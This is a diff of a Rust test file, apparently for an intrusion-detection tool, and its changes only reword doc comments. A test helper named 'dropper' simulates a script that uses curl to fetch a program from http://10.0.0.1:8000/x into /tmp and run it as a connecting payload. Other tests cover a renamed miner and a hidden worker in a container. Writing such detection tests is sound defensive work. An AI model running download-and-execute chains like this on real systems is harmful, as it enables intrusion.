@@ -18,7 +18,7 @@ fn host() -> (Host, ProcessKey) {
     (host, init)
 }
 
-/// The incidents of the alerts, each once.
+/// Returns the incidents of the alerts, each once.
 fn incidents(alerts: &[Alert]) -> Vec<IncidentId> {
     let mut incidents: Vec<_> = alerts.iter().map(|alert| alert.incident).collect();
     incidents.sort_unstable();
@@ -26,7 +26,7 @@ fn incidents(alerts: &[Alert]) -> Vec<IncidentId> {
     incidents
 }
 
-/// A script downloads a program into /tmp, makes it executable and runs it; the program connects out.
+/// Lets a script download a program into /tmp, make it executable and run it. The program opens a connection.
 fn dropper(host: &mut Host, script: ProcessKey, path: &str) -> ProcessKey {
     let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", path, "http://10.0.0.1:8000/x"]);
     host.connect(curl, "10.0.0.1:8000");
@@ -187,7 +187,7 @@ fn a_renamed_miner() {
     insta::assert_snapshot!(story(&alerts));
 }
 
-/// Detected by its memory and its arithmetic alone, without a name, a connection or a file.
+/// The worker is detected by its memory and its arithmetic alone, without a name, a connection or a file.
 #[test]
 fn a_quiet_worker_in_a_container() {
     let (mut host, init) = host();
